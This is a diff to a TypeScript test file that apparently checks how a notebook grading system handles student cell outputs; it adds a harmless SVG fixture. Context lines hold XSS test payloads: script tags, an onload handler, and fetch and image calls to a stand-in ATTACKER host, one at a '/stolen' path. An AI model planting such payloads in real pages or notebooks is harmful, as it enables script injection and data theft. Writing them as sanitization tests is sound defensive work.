@@ -51,6 +51,8 @@ const HOSTILE_HTML = `<script>window.top.pwned = 1; fetch("${ATTACKER}/stolen")<
 
 const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><script>window.top.pwned=1</script><image href="${ATTACKER}/pixel.png"/><rect width="80" height="40" fill="red" onload="window.top.pwned=1"/></svg>`;
 
+const FAIR_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><rect width="80" height="40"/></svg>';
+
 /** Digest of a student's submission, as far as these tests need one: it does not say whose it is. */
 export function digestOf(student: string): string {
   return createHash("sha256").update(student).digest("hex");
@@ -117,9 +119,10 @@ function handedIn(given: Cell[], code: string, answer: string): Cell[] {
     if (cell.id !== "double-check" || cell.cell_type !== "code") return cell;
     const html = { output_type: "display_data" as const, metadata: {}, data: { "text/html": HOSTILE_HTML } };
     const svg = { output_type: "display_data" as const, metadata: {}, data: { "image/svg+xml": HOSTILE_SVG } };
+    const fair = { output_type: "display_data" as const, metadata: {}, data: { "image/svg+xml": FAIR_SVG } };
     return {
       ...cell,
-      outputs: [{ output_type: "stream" as const, name: "stdout" as const, text: "passed\n" }, html, svg],
+      outputs: [{ output_type: "stream" as const, name: "stdout" as const, text: "passed\n" }, html, svg, fair],
     };
   });
 }
